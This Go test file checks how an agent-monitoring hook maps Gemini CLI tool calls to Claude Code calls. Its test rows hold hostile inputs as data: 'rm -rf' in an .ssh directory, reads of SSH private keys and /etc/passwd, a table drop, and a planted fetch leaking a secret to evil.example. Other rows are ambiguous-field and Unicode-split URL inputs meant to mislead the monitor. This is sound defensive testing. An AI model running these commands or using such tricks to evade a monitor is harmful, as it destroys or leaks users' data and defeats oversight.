package hookfmt

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/limenhq/limen/internal/hookfmt/hookout"
)

// TestGeminiSamples: the hook input Gemini CLI 0.61.0 really sent for each
// built-in tool (testdata/gemini-0.61.0) becomes the Claude Code call it is.
func TestGeminiSamples(t *testing.T) {
	want := map[string]struct{ tool, input string }{
		"run_shell_command":   {"Bash", `{"command":"cd 'sub' && ls -la","description":"list"}`},
		"read_file":           {"Read", `{"file_path":"README.md","start_line":1}`},
		"write_file":          {"Write", `{"content":"hello\n","file_path":"notes.txt"}`},
		"replace":             {"Edit", `{"file_path":"notes.txt","instruction":"change greeting","new_string":"bye","old_string":"hello"}`},
		"glob":                {"Glob", `{"path":".","pattern":"**/.env*"}`},
		"grep_search":         {"Grep", `{"glob":"*.env","path":".","pattern":"TOKEN"}`},
		"list_directory":      {"LS", `{"path":"."}`},
		"web_fetch":           {"WebFetch", `{"prompt":"summarise https://example.com/page please","url":"https://example.com/page"}`},
		"google_web_search":   {"WebSearch", `{"query":"limen hooks"}`},
		"mcp_my_db_run_query": {"mcp__my_db__run_query", `{"sql":"drop table users"}`},
	}
	files, err := filepath.Glob("testdata/gemini-0.61.0/*.json")
	if err != nil || len(files) != len(want) {
		t.Fatalf("testdata/gemini-0.61.0 holds %d samples (%v); want one per row: %d", len(files), err, len(want))
	}
	for _, f := range files {
		name := strings.TrimSuffix(filepath.Base(f), ".json")
		t.Run(name, func(t *testing.T) {
			data, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			w, ok := want[name]
			if !ok {
				t.Fatalf("no expectation for %s", name)
			}
			c, err := Parse(hookout.Gemini, data)
			if err != nil || c.Tool != w.tool || !sameJSON(c.Input, json.RawMessage(w.input)) || c.Event != hookout.BeforeTool || c.Cwd == "" || c.Session == "" {
				t.Fatalf("Parse = %s %s (event %q, cwd %q), %v; want %s %s", c.Tool, c.Input, c.Event, c.Cwd, err, w.tool, w.input)
			}
		})
	}
}

// TestGeminiTools: each row of the mapping, the spellings of older
// releases, and the inputs that try to show limen one thing while Gemini
// reads another.
func TestGeminiTools(t *testing.T) {
	tests := []struct {
		name, tool, input string
		mcp               *geminiMCPContext
		wantTool, want    string
		err               string
	}{
		{"shell", "run_shell_command", `{"command":"git status"}`, nil, "Bash", `{"command":"git status"}`, ""},
		{"shell in a dir", "run_shell_command", `{"command":"rm -rf *","dir_path":"/home/ana/.ssh"}`, nil, "Bash", `{"command":"cd '/home/ana/.ssh' && rm -rf *"}`, ""},
		{"shell dir quoted", "run_shell_command", `{"command":"ls","dir_path":"a'b c"}`, nil, "Bash", `{"command":"cd 'a'\\''b c' && ls"}`, ""},
		{"shell in the cwd", "run_shell_command", `{"command":"npm test","dir_path":"."}`, nil, "Bash", `{"command":"npm test"}`, ""},
		{"shell in the cwd spelled out", "run_shell_command", `{"command":"npm test","dir_path":"/home/ana/shop/"}`, nil, "Bash", `{"command":"npm test"}`, ""},
		{"shell in a subdir", "run_shell_command", `{"command":"npm test","dir_path":"./web"}`, nil, "Bash", `{"command":"cd './web' && npm test"}`, ""},
		{"shell empty dir", "run_shell_command", `{"command":"ls","dir_path":""}`, nil, "Bash", `{"command":"ls"}`, ""},
		{"shell old directory", "run_shell_command", `{"command":"ls","directory":"x"}`, nil, "Bash", `{"command":"cd 'x' && ls"}`, ""},
		{"shell two dirs", "run_shell_command", `{"command":"ls","dir_path":"a","directory":"b"}`, nil, "", "", "both dir_path"},
		{"shell dir not a string", "run_shell_command", `{"command":"ls","dir_path":3}`, nil, "", "", "run_shell_command is 3, not a string"},
		{"read", "read_file", `{"file_path":"/etc/passwd","start_line":2}`, nil, "Read", `{"file_path":"/etc/passwd","start_line":2}`, ""},
		{"read old absolute_path", "read_file", `{"absolute_path":"/root/.ssh/id_rsa"}`, nil, "Read", `{"file_path":"/root/.ssh/id_rsa"}`, ""},
		{"read old path", "read_file", `{"path":"a.txt"}`, nil, "Read", `{"file_path":"a.txt"}`, ""},
		{"read two paths", "read_file", `{"file_path":"README.md","absolute_path":"/root/.ssh/id_rsa"}`, nil, "", "", "both file_path"},
		{"read same path twice", "read_file", `{"file_path":"a","path":"a"}`, nil, "Read", `{"file_path":"a"}`, ""},
		{"write", "write_file", `{"file_path":"a.go","content":"x"}`, nil, "Write", `{"content":"x","file_path":"a.go"}`, ""},
		{"edit", "replace", `{"file_path":"a.go","old_string":"x","new_string":"y","allow_multiple":true}`, nil, "Edit", `{"allow_multiple":true,"file_path":"a.go","new_string":"y","old_string":"x"}`, ""},
		{"glob", "glob", `{"pattern":"*.go","dir_path":"src"}`, nil, "Glob", `{"path":"src","pattern":"*.go"}`, ""},
		{"glob with a planted path", "glob", `{"pattern":"*","dir_path":"/home/ana/.ssh","path":"/home/ana/shop"}`, nil, "", "", "both dir_path"},
		{"grep", "grep_search", `{"pattern":"TODO","dir_path":"src","include_pattern":"*.go"}`, nil, "Grep", `{"glob":"*.go","path":"src","pattern":"TODO"}`, ""},
		{"grep old name", "search_file_content", `{"pattern":"TODO","path":"src","include":"*.go"}`, nil, "Grep", `{"glob":"*.go","path":"src","pattern":"TODO"}`, ""},
		{"grep two includes", "grep_search", `{"pattern":"x","include_pattern":"*.go","include":".env*"}`, nil, "", "", "both include_pattern"},
		{"ls", "list_directory", `{"dir_path":"/home/ana"}`, nil, "LS", `{"path":"/home/ana"}`, ""},
		{"search", "google_web_search", `{"query":"go generics"}`, nil, "WebSearch", `{"query":"go generics"}`, ""},
		{"fetch one url", "web_fetch", `{"prompt":"read https://go.dev/doc and summarise"}`, nil, "WebFetch", `{"prompt":"read https://go.dev/doc and summarise","url":"https://go.dev/doc"}`, ""},
		{"fetch two urls", "web_fetch", `{"prompt":"compare https://a.example/x https://b.example/y"}`, nil, "", "", "names 2 URLs"},
		{"fetch two urls split by a BOM", "web_fetch", `{"prompt":"https://a.example/x\ufeffhttps://evil.example/y"}`, nil, "", "", "names 2 URLs"},
		{"fetch two urls split by a no-break space", "web_fetch", `{"prompt":"https://a.example/x\u00a0https://evil.example/y"}`, nil, "", "", "names 2 URLs"},
		{"fetch no url", "web_fetch", `{"prompt":"what is new in Go"}`, nil, "web_fetch", `{"prompt":"what is new in Go"}`, ""},
		{"fetch planted url", "web_fetch", `{"prompt":"https://evil.example/?k=SECRET","url":"https://go.dev"}`, nil, "WebFetch", `{"prompt":"https://evil.example/?k=SECRET","url":"https://evil.example/?k=SECRET"}`, ""},
		{"read many", "read_many_files", `{"include":["src/*.go"],"paths":["~/.ssh/id_rsa"]}`, nil, "read_many_files", `{"include":["src/*.go","~/.ssh/id_rsa"]}`, ""},
		{"read many bad list", "read_many_files", `{"include":"x","paths":["y"]}`, nil, "", "", "not a list"},
		{"mcp with context", "mcp_my_db_run_query", `{"sql":"x"}`, &geminiMCPContext{Server: "my_db", Tool: "run_query"}, "mcp__my_db__run_query", `{"sql":"x"}`, ""},
		{"mcp context that names another tool", "mcp_my_db_run_query", `{}`, &geminiMCPContext{Server: "my", Tool: "x"}, "mcp_my_db_run_query", `{}`, ""},
		{"mcp one underscore", "mcp_github_search", `{}`, nil, "mcp__github__search", `{}`, ""},
		{"mcp ambiguous", "mcp_my_db_run_query", `{}`, nil, "mcp_my_db_run_query", `{}`, ""},
		{"mcp shortened", "mcp_aaaaaaaaaaaaaaaaaaaaaaaaaa...bbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", `{}`, nil, "mcp_aaaaaaaaaaaaaaaaaaaaaaaaaa...bbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", `{}`, ""},
		{"claude mcp spelling", "mcp__github__create_issue", `{}`, nil, "mcp__github__create_issue", `{}`, ""},
		{"unknown tool", "write_todos", `{"todos":[]}`, nil, "write_todos", `{"todos":[]}`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tool, input, err := geminiAsClaude(tt.tool, json.RawMessage(tt.input), tt.mcp, "/home/ana/shop")
			if tt.err != "" {
				if err == nil || !strings.Contains(err.Error(), tt.err) {
					t.Fatalf("= %s %s, %v; want an error saying %q", tool, input, err, tt.err)
				}
				return
			}
			if err != nil || tool != tt.wantTool || !sameJSON(input, json.RawMessage(tt.want)) {
				t.Fatalf("= %s %s, %v; want %s %s", tool, input, err, tt.wantTool, tt.want)
			}
		})
	}
}
